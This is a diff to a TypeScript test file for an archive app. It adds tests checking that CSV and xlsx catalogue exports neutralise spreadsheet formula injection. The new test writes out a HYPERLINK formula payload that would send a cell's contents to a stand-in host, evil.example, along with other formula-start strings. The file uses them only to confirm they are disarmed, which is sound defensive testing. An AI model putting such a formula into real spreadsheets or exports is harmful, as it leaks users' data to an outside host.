@@ -2,6 +2,7 @@
 import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import ExcelJS from 'exceljs'
+import JSZip from 'jszip'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { csvField } from '../../../src/main/archive-work/csv'
 import { safeFileName } from '../../../src/main/archive-work/issue-pdfs'
@@ -104,7 +105,31 @@ describe('the sample issue', () => {
     expect(rows).toEqual(xlsx)
   })
 
-  it('quotes CSV fields per RFC 4180', () => {
+  it('exports a formula-looking title as text, never as a live formula (OWASP CSV injection)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?d="&B3,"点此查看")'
+    const other = tempArchive()
+    try {
+      await other.api.importFiles({ sources: [upload('xingxian-2022-02.txt', SAMPLE_TEXT)] })
+      const id = (await other.api.listDocuments({ offset: 0, limit: 1 })).items[0].id
+      await other.api.correctDocument({ id, changes: { title: evil, docNumber: '-1+1', issuer: '@SUM(1)' }, editor: '测试' })
+      const csv = await other.api.exportCatalogue({ scope: { all: true }, format: 'csv' })
+      const rows = parseCsv(Buffer.from(csv.bytesBase64, 'base64').toString('utf8').slice(1))
+      const row = rows.find((r) => r[2].includes('HYPERLINK')) as string[]
+      expect(row.slice(1, 4)).toEqual([`'-1+1`, `'${evil}`, `'@SUM(1)`])
+      // The xlsx writer stores every text as an inline string: no cell is a formula (<f>).
+      const xlsx = await other.api.exportCatalogue({ scope: { all: true }, format: 'xlsx' })
+      const sheet = await (await JSZip.loadAsync(Buffer.from(xlsx.bytesBase64, 'base64'))).file('xl/worksheets/sheet1.xml')?.async('string')
+      expect(sheet).toContain('=HYPERLINK(&quot;http://evil.example')
+      expect(sheet).not.toMatch(/<f[ >]/)
+    } finally {
+      other.close()
+    }
+  })
+
+  it('quotes CSV fields per RFC 4180 and disarms formula starts', () => {
+    expect(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvField)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", `"'\r=1"`])
+    expect(csvField(-3)).toBe('-3')
+    expect(csvField('兴政发〔2022〕8号')).toBe('兴政发〔2022〕8号')
     expect(csvField('a,b')).toBe('"a,b"')
     expect(csvField('说"明"')).toBe('"说""明"""')
     expect(csvField('两\r\n行')).toBe('"两\r\n行"')
